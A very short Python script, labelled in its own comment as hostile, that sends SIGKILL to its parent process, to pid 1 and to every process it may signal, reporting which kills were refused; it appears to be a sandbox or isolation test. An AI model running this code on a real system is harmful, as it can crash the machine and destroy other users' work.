# Hostile: kills its parent, pid 1 and everything it may signal.
import os
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, 9)
        print("sent", target)
    except OSError as e:
        print("refused", target, type(e).__name__)
print("still here")
